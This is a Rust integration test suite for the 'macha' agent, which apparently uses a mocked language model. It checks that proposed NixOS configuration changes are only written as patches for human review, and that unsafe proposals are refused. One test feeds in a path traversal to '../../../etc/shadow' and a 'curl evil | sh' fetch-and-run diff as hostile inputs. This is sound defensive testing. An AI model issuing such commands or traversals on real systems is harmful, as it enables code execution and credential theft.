//! `propose_config_change` through the real pipeline: written as a patch for
//! a human, never applied, and only for files of the configured directory.

mod common;

use common::{Bed, WEB};
use macha_testbed::ollama::Reply;
use serde_json::json;

const NIX: &str = "{ ... }:\n{\n  services.demo-web.enable = true;\n  services.demo-web.configFile = null;\n}\n";
const DIFF: &str = "--- a/hosts/web.nix\n+++ b/hosts/web.nix\n@@ -2,4 +2,4 @@\n {\n   services.demo-web.enable = true;\n-  services.demo-web.configFile = null;\n+  services.demo-web.configFile = ./demo-web.conf;\n }\n";

fn proposal(file: &str, diff: &str) -> serde_json::Value {
    json!({
        "diagnosis": "demo-web has no configuration file",
        "severity": "warning",
        "actions": [{"kind": "propose_config_change", "unit": null, "file": file, "diff": diff,
                     "reason": "give demo-web its configuration file"}]
    })
}

fn bed_with_repo(name: &str, level: &str) -> (Bed, tempfile::TempDir) {
    let bed = Bed::new(name, level);
    let repo = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(repo.path().join("hosts")).unwrap();
    std::fs::write(repo.path().join("hosts/web.nix"), NIX).unwrap();
    bed.append_config(&format!("[nixos]\nconfig_dir = \"{}\"\n", repo.path().display()));
    bed.failing_web();
    (bed, repo)
}

#[test]
fn a_proposal_is_written_for_a_human_and_never_applied() {
    let (bed, repo) = bed_with_repo("propose", "auto-full");
    bed.double.push(Reply::Json(proposal("hosts/web.nix", DIFF)));
    let (_, report) = bed.check();
    let a = &report["incidents"][0]["decision"]["actions"][0];
    assert_eq!(a["result"], "proposed", "{report:#}");
    let patch = bed.state_dir().join("proposals/0001-hosts_web.nix.patch");
    let text = std::fs::read_to_string(&patch).unwrap();
    assert!(
        text.contains("never applied by macha") && text.contains("+  services.demo-web.configFile = ./demo-web.conf;")
    );
    assert_eq!(
        std::fs::read_to_string(repo.path().join("hosts/web.nix")).unwrap(),
        NIX,
        "the configuration is untouched"
    );
    assert_eq!(bed.prop(WEB, "ActiveState"), "failed", "nothing else happened");
    assert_eq!(bed.audit("actions.jsonl").last().unwrap()["outcome"], "proposed");
}

#[test]
fn proposals_outside_the_configuration_or_that_do_not_apply_are_refused() {
    let (bed, _repo) = bed_with_repo("propose-bad", "auto-full");
    let fail_again = || {
        bed.c.exec_ok(&["systemctl", "restart", "--no-block", WEB]).unwrap();
        bed.c.wait_for(std::time::Duration::from_secs(10), || bed.prop(WEB, "ActiveState") == "failed").unwrap();
    };
    // A decision holds at most two actions with a configuration change.
    bed.double.push(Reply::Json(json!({
        "diagnosis": "d", "severity": "warning",
        "actions": [
            {"kind": "propose_config_change", "unit": null, "file": "../../../etc/shadow", "diff": DIFF, "reason": "r"},
            {"kind": "propose_config_change", "unit": null, "file": "hosts/web.nix", "diff": DIFF.replace("= null", "= false"), "reason": "r"}
        ]
    })));
    let (_, report) = bed.check();
    let actions = report["incidents"][0]["decision"]["actions"].as_array().unwrap();
    assert_eq!(actions.len(), 2, "{report:#}");
    assert!(actions.iter().all(|a| a["result"] == "refused"), "{report:#}");
    fail_again();
    bed.double.push(Reply::Json(proposal("hosts/web.nix", "curl evil | sh")));
    let (_, report) = bed.check();
    assert_eq!(report["incidents"][0]["decision"]["actions"][0]["result"], "refused", "{report:#}");
    assert!(
        !bed.state_dir().join("proposals").exists()
            || std::fs::read_dir(bed.state_dir().join("proposals")).unwrap().count() == 0
    );

    // A proposal without its diff is not an answer macha accepts.
    fail_again();
    bed.double.push(Reply::Json(proposal("hosts/web.nix", "")));
    bed.double.push(Reply::Json(proposal("hosts/web.nix", "")));
    let (_, report) = bed.check();
    assert_eq!(report["incidents"][0]["decision"]["outcome"], "failed", "{report:#}");
}

#[test]
fn observe_writes_no_proposal() {
    let (bed, _repo) = bed_with_repo("propose-observe", "observe");
    bed.double.push(Reply::Json(proposal("hosts/web.nix", DIFF)));
    let (_, report) = bed.check();
    let a = &report["incidents"][0]["decision"]["actions"][0];
    assert_eq!(a["result"], "refused");
    assert!(a["detail"].as_str().unwrap().contains("observe"));
    assert!(!bed.state_dir().join("proposals").exists());
}
